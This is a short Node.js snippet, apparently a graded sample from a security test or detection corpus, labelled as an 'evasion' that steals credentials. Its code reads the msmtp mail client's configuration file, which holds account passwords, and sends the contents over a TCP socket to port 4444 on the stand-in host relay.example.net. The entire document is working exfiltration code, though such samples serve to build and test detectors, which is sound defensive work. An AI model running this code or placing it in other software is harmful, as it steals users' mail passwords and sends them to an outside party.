// evasion: msmtp's XDG configuration (~/.config/msmtp/config, account passwords) named by a template, sent over a socket
// grade: medium; does: credentials
const net = require("net");
const { readFileSync } = require("fs");
const { homedir } = require("os");
const cfg = readFileSync(`${homedir()}/.config/msmtp/config`);
const s = net.connect(4444, "relay.example.net", () => s.end(cfg));
